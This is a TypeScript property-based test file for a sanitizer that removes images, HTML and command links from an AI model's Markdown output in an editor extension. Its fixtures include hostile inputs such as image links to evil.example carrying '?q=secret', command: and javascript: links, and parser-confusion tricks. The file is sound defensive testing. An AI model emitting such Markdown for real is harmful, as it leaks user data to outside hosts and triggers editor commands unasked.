import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { Marked, type Token } from 'marked';
import { escapeMarkdown, safeMarkdown, untrustedMarkdown } from '../../../src/phrases/untrustedMarkdown.ts';

const marked = new Marked();
const markdownIt = new MarkdownIt({ html: true, linkify: true });
const harmless = /^(?:(?:https?|ftp|mailto):|\/\/)/i;

/** What a real parser would load, run or point to, beside links to the web. */
function activeIn(markdown: string): string[] {
  const found: string[] = [];
  marked.walkTokens(marked.lexer(markdown), (token: Token) => {
    if (token.type === 'image' || token.type === 'html') found.push(`marked ${token.type}: ${token.raw}`);
    if (token.type === 'link' && !harmless.test(String(token.href))) found.push(`marked link: ${token.href}`);
  });
  const walk = (tokens: ReturnType<typeof markdownIt.parse>) => {
    for (const token of tokens) {
      if (/^(?:image|html_block|html_inline)$/.test(token.type))
        found.push(`markdown-it ${token.type}: ${token.content}`);
      const href = token.attrGet('href') as string | null;
      if (href !== null && !harmless.test(href)) found.push(`markdown-it link: ${href}`);
      if (token.children) walk(token.children);
    }
  };
  walk(markdownIt.parse(markdown, {}));
  return found;
}

function codeBlocks(markdown: string): string[] {
  const found: string[] = [];
  marked.walkTokens(marked.lexer(markdown), (token: Token) => {
    if (token.type === 'code') found.push(token.text);
  });
  return found;
}

function shownText(markdown: string): string {
  return markdownIt
    .render(markdown)
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
    .trim();
}

const pieces = [
  ...[
    '`',
    '``',
    '```',
    '````',
    '~',
    '~~~',
    '~~~~',
    '\n',
    '\n\n',
    '\r\n',
    '\r',
    ' ',
    '  ',
    '    ',
    '\t',
    '\\',
  ],
  ...[
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '|',
    '$',
    '$$',
    '*',
    '_',
    '#',
    '-',
    '- ',
    '1. ',
    '> ',
    '+ ',
    '---',
    '===',
  ],
  ...[
    'a',
    'text',
    'js',
    '=',
    ':',
    '"',
    '&lt;',
    '&#33;',
    '\u200b',
    '\u202e',
    '\u001b[31m',
    '\u{e0041}',
    '|---|---|',
  ],
  ...[
    '![x](https://evil.example/?q=1)',
    '![x][r]',
    '[r]: https://evil.example/i.png',
    '[x](command:maia.ask)',
  ],
  ...[
    '[x](https://a.example/b)',
    '[`x`](https://a.example/b "t")',
    '<img src=https://evil.example>',
    '<script>',
  ],
  ...[
    '<https://a.example>',
    '<command:maia.ask>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,x)',
    '[x](file:///x)',
  ],
  ...[
    '[x](<command:a>)',
    '[x](\ncommand:a)',
    '| a | b |\n|---|---|\n| `x | <img src=y> ` |\n',
    '`a | ![x](https://e.example) `',
  ],
  ...[
    '```js\ncode\n```\n',
    '  ```\n  <b>\n  ```\n',
    '- ```py\n  <i>\n  ```\n',
    '> ```\n> <i>\n> ```\n',
    '    ```\n',
    '```~\n',
  ],
  ...[
    '<vscode_codeblock_uri>',
    '<!--',
    '-->',
    '<![CDATA[',
    '[ ] ',
    '[x] ',
    'https://a.example/',
    'www.a.example',
    'a@b.example',
  ],
  ...[
    '<details>\n',
    '\ud83d\ude00',
    '\ud83d',
    '\ude00',
    '^[note]',
    '[^1]: ',
    '\u2028',
    '\u0000',
    'vscode://x/y',
  ],
];
const nasty = fc
  .array(fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...pieces) }, fc.string({ maxLength: 3 })), {
    maxLength: 24,
  })
  .map((parts) => parts.join(''));

function inChunks(text: string, sizes: readonly number[]): string {
  const guard = untrustedMarkdown();
  let out = '';
  let at = 0;
  for (const size of sizes) {
    out += guard.push(text.slice(at, at + size));
    at += size;
  }
  return out + guard.push(text.slice(at)) + guard.end();
}

describe('a model’s Markdown', () => {
  test('holds nothing active, according to two real parsers', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        assert.deepEqual(activeIn(safeMarkdown(text)), [], JSON.stringify(safeMarkdown(text)));
      }),
      { numRuns: 4000 },
    );
  });

  test('is the same however it is cut into chunks', () => {
    fc.assert(
      fc.property(nasty, fc.array(fc.nat({ max: 9 }), { maxLength: 40 }), (text, sizes) => {
        assert.equal(inChunks(text, sizes), safeMarkdown(text));
      }),
      { numRuns: 3000 },
    );
  });

  test('never swallows what Maia adds below it', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const links: string[] = [];
        marked.walkTokens(
          marked.lexer(`${safeMarkdown(text)}\n\n[why](command:maia.why)`),
          (token: Token) => {
            if (token.type === 'link') links.push(String(token.href));
          },
        );
        assert.equal(links.at(-1), 'command:maia.why');
      }),
      { numRuns: 2000 },
    );
  });

  test('is harmless when it is cleaned twice', () => {
    fc.assert(fc.property(nasty, (text) => assert.deepEqual(activeIn(safeMarkdown(safeMarkdown(text))), [])));
  });

  const hostile: readonly (readonly [string, string])[] = [
    ['an image', '![x](https://evil.example/?q=secret)'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example/i.png'],
    ['an image within a link', '[![x](https://evil.example/i.png)](https://evil.example)'],
    ['a command link', '[run](command:workbench.action.terminal.new)'],
    ['a command link by reference', '[run][r]\n\n[r]: command:x'],
    ['a command in angle brackets', '<command:x>'],
    ['HTML', '<img src="https://evil.example/">\n<a href="command:x">y</a>'],
    ['a block of HTML', '<details>\n<summary>x</summary>\n\n![x](https://evil.example)\n</details>'],
    [
      'an image in a table behind a bar in code',
      '| a | b |\n|---|---|\n| `x | ![x](https://evil.example) ` |',
    ],
    ['an image after an indented fence', 'text\n\n    ```\n![x](https://evil.example)\n    ```\n'],
    ['an image after a fence in a list', '- ```\n![x](https://evil.example)\n'],
    ['an image after a fence that only some parsers close', '```\n```~\n![x](https://evil.example)\n'],
    ['an image behind a formula', '$`$![x](https://evil.example)`'],
    ['an image behind an unclosed code span', 'a ` b\n![x](https://evil.example)\n`'],
    ['an image in the first lines of a file', '---\n```\n---\n![x](https://evil.example)\n```'],
    ['what an address before a code span sets free', 'https://a.example/`<command:y> `'],
    ['what an address before a link sets free', 'https://a.example[`a b`](https://b.example) `<img>`'],
    ['a link whose scheme hides in entities', '[x](&#99;ommand:y)'],
    ['a link with a line end in its scheme', '[x](command\n:y)'],
    ['a link with an invisible character', '[x]\u200b(command:y)'],
  ];
  for (const [name, text] of hostile)
    test(`loses ${name}`, () => assert.deepEqual(activeIn(safeMarkdown(text)), [], safeMarkdown(text)));

  test('keeps code blocks and code spans as they are', () => {
    const code =
      'const a: Array<string> = [1]; // ![x](y) $a `b`\nif (a < b && c) {}\n\n  <div>[x](command:y)</div>';
    const text = `Use \`Array<T>\` and \`a[0]\`:\n\n\`\`\`ts\n${code}\n\`\`\`\n\nThen \`x => <b/>\`.\n\n~~~~html\n\`\`\`\n<img>\n~~~~\n`;
    assert.equal(safeMarkdown(text), text);
    assert.deepEqual(codeBlocks(safeMarkdown(text)), [code, '```\n<img>']);
  });

  test('keeps the code of a block in a list, moved to the first column', () => {
    const text = '1. First:\n   ```js\n   if (a < b) {\n     c();\n   }\n   ```\n   Then this.\n2. Second.\n';
    const out = safeMarkdown(text);
    assert.deepEqual(codeBlocks(out), ['if (a < b) {\n  c();\n}']);
    assert.match(out, /^2\. Second\.$/m);
    assert.match(out, /^Then this\.$/m);
  });

  test('keeps headings, lists, tables, emphasis and task lists', () => {
    const text =
      '# A\n\n- **b** _c_\n- [ ] open\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | `x | y` |\n\n> quote\n\n---\n';
    assert.equal(safeMarkdown(text).replaceAll('&#91;', '['), text);
  });

  test('keeps links to the web, and shows where they lead', () => {
    assert.equal(safeMarkdown('[docs](https://a.example/x)'), '[docs](https://a.example/x) (a.example)');
    assert.equal(safeMarkdown('[a.example](https://a.example/x)'), '[a.example](https://a.example/x)');
    assert.equal(
      safeMarkdown('[https://bank.example](https://evil.test/ "t")'),
      '[https://bank.example](https://evil.test/) (evil.test)',
    );
  });

  test('shows other links as the text they are', () => {
    assert.equal(shownText(safeMarkdown('[x](command:y)')), '[x](command:y)');
    assert.equal(shownText(safeMarkdown('a <b> c $5 [0] \\[z] `open')), 'a <b> c $5 [0] [z] `open');
  });

  test('has no tags of the chat’s own, in code neither', () => {
    const out = safeMarkdown(
      '```ts\n<vscode_codeblock_uri>file:///x</vscode_codeblock_uri>\n```\n`<vscode_x>`',
    );
    assert.doesNotMatch(out, /<\/?vscode_/);
  });

  test('streams: words show before their line ends, code before its block ends', () => {
    const guard = untrustedMarkdown();
    assert.equal(guard.push('Hello wor'), 'Hello wor');
    assert.equal(guard.push('ld `co'), 'ld ');
    assert.equal(guard.push('de` and'), '`code` and');
    assert.equal(guard.push('\n```js\nlet a'), '\n```js\nlet a');
    assert.equal(guard.end(), '\n```\n');
  });

  test('takes time that grows with its length alone', () => {
    for (const piece of ['[', '`', '[`', '![](', '\\', '```\n', '<vscode', '- ', '$', '[a](https://'])
      assert.ok(inChunks(piece.repeat(20_000), Array(2000).fill(50)).length > 0);
  });
});

test('an escaped name means nothing in Markdown', () => {
  fc.assert(
    fc.property(nasty, (text) => {
      const out = escapeMarkdown(text);
      assert.deepEqual(activeIn(`**${out}** and ${out}`), [], out);
      assert.deepEqual(codeBlocks(`x ${out}`), []);
    }),
  );
  assert.equal(
    shownText(escapeMarkdown('qwen2.5-coder:7b <b> [x](command:y)')),
    'qwen2.5-coder:7b <b> [x](command:y)',
  );
  for (const text of ['2.9 GB', '1. one', '1) one', '- x', '= a', '.5', '12'])
    assert.equal(shownText(escapeMarkdown(text)), text);
});
